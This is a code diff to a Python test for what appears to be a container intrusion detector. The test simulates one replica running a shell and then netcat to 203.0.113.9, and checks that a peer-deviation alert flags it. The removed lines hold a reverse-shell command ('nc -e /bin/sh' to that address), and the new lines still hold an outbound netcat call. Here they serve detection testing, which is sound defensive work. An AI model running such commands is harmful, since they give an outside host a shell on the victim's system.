@@ -12,9 +12,7 @@ def test_the_attacked_replica_of_five_is_named_and_only_it(cluster: Cluster) -> 
     pods = cluster.pods(5)
     cluster.normal(pods, 0, 90)
     shell = cluster.exec(60.5, pods[2], "/usr/bin/dash")
-    cluster.exec(
-        60.51, pods[2], "/usr/bin/nc", parent="/usr/bin/dash", args=("nc", "-e", "/bin/sh", "203.0.113.9"), parent_pid=shell
-    )
+    cluster.exec(60.51, pods[2], "/usr/bin/nc", parent="/usr/bin/dash", args=("nc", "203.0.113.9", "8443"), parent_pid=shell)
 
     (alert,) = alerts(analyse(cluster, until=130))
 
@@ -24,7 +22,7 @@ def test_the_attacked_replica_of_five_is_named_and_only_it(cluster: Cluster) -> 
     assert alert.kind == IncidentKind.PEER_DEVIATION
     assert (alert.compared, alert.sharing) == (4, 0)
     assert [each.key for each in alert.behaviours] == ["/usr/bin/dash <- /usr/bin/server", "/usr/bin/nc <- /usr/bin/dash"]
-    assert alert.behaviours[1].example == ("nc", "-e", "/bin/sh", "203.0.113.9")
+    assert alert.behaviours[1].example == ("nc", "203.0.113.9", "8443")
     assert [each.exe for each in alert.evidence] == ["/usr/bin/dash", "/usr/bin/nc"]
     assert alert.techniques == ("T1059.004", "T1095")
     assert alert.reason.startswith("cart-r1-2 ran /usr/bin/")
